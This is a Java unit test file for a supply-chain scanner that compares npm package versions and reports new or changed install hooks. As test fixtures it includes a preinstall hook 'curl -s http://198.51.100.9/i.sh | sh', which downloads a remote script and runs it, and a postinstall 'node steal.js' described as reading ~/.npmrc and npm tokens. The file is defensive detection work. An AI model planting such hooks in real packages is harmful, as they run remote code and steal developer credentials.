package dev.lazaret.policy.signal;

import static dev.lazaret.policy.Fixtures.context;
import static dev.lazaret.policy.Fixtures.version;
import static org.assertj.core.api.Assertions.assertThat;

import dev.lazaret.policy.Contents;
import dev.lazaret.policy.PackageFacts;
import dev.lazaret.policy.SignalResult;
import dev.lazaret.policy.content.ContentFacts;
import dev.lazaret.policy.content.Samples;
import java.time.Duration;
import org.junit.jupiter.api.Test;

class InstallScriptChangeTest {

  private static final PackageFacts FACTS = PackageFacts.builder("p")
      .version(version("1.0.0", Duration.ofDays(300), "a").build())
      .version(version("1.0.1", Duration.ofHours(2), "a").build()).build();

  private static SignalResult judge(ContentFacts content) {
    return new InstallScriptChange().evaluate(context(FACTS, "1.0.1", content));
  }

  @Test
  void anAddedPostinstallSaysWhatItRunsAndWhatThatDoes() {
    SignalResult r = judge(Contents.since("1.0.0").hook("postinstall", "node steal.js")
        .added("steal.js", Samples.text("eslint-scope-build.js"), true).build());
    assertThat(r.fired()).isTrue();
    assertThat(r.value()).isEqualTo("postinstall added");
    assertThat(r.sentence()).isEqualTo("Compared with 1.0.0: postinstall now runs"
        + " `node steal.js` (1.0.0 had no postinstall), which makes a network call and reads"
        + " ~/.npmrc and npm tokens (steal.js:5, 7, 8).");
    assertThat(r.phrase()).isEqualTo("with a new postinstall that runs `node steal.js`");
  }

  @Test
  void aChangedCommandSaysWhatItRanBefore() {
    SignalResult r = judge(Contents.since("1.0.0").previousHook("preinstall", "node check.js")
        .hook("preinstall", "curl -s http://198.51.100.9/i.sh | sh").build());
    assertThat(r.fired()).isTrue();
    assertThat(r.sentence()).contains("preinstall now runs `curl -s http://198.51.100.9/i.sh |"
        + " sh` (1.0.0 ran `node check.js`), which makes a network call and runs downloaded or"
        + " decoded content (package.json:1)");
  }

  @Test
  void aChangedFileUnderAnUnchangedHookFires() {
    SignalResult r = judge(Contents.since("1.0.0").sameHook("install", "node install.js")
        .changed("install.js", "console.log(1)", "console.log(2)", true).build());
    assertThat(r.fired()).isTrue();
    assertThat(r.sentence()).isEqualTo("Compared with 1.0.0: install still runs"
        + " `node install.js`, but install.js changed (nothing suspicious found in it).");
    assertThat(r.value()).isEqualTo("install.js changed");
  }

  @Test
  void anAddedHookWhoseFileIsCleanSaysSo() {
    SignalResult r = judge(Contents.since("1.0.0").hook("postinstall", "node scripts/hi.js")
        .added("scripts/hi.js", "console.log('thanks for installing')", true).build());
    assertThat(r.sentence()).endsWith("(1.0.0 had no postinstall) (nothing suspicious found in"
        + " scripts/hi.js).");
  }

  @Test
  void aFileTooLargeToScanIsNotCalledClean() {
    SignalResult r = judge(Contents.since("1.0.0").hook("postinstall", "node bundle.js")
        .addedUnscanned("bundle.js", 3_600_000, true, "too large to scan").build());
    assertThat(r.sentence()).isEqualTo("Compared with 1.0.0: postinstall now runs"
        + " `node bundle.js` (1.0.0 had no postinstall), which could not be scanned (3.6 MB,"
        + " too large to scan).");
    SignalResult same = judge(Contents.since("1.0.0").sameHook("install", "node install.js")
        .addedUnscanned("install.js", 9_000_000, true, "too large to scan").build());
    assertThat(same.sentence()).isEqualTo("Compared with 1.0.0: install still runs"
        + " `node install.js`, but install.js was added (9.0 MB, too large to scan).");
  }

  @Test
  void unchangedScriptsAndLibraryChangesAreQuiet() {
    SignalResult r = judge(Contents.since("1.0.0").sameHook("postinstall", "node setup.js")
        .changed("index.js", "a()", "a(); fetch(u)", false).build());
    assertThat(r.fired()).isFalse();
    assertThat(r.sentence()).isEqualTo("The install scripts and the files they run are as in"
        + " 1.0.0.");
  }

  @Test
  void aFirstReleaseOrAnUninspectedTarballIsQuiet() {
    assertThat(judge(Contents.since(null).hook("postinstall", "node x.js").build()).value())
        .isEqualTo("first release");
    SignalResult none = judge(null);
    assertThat(none.fired()).isFalse();
    assertThat(none.value()).isEqualTo("not inspected");
    assertThat(judge(ContentFacts.failed("too many entries", "1.0.0")).fired()).isFalse();
  }
}
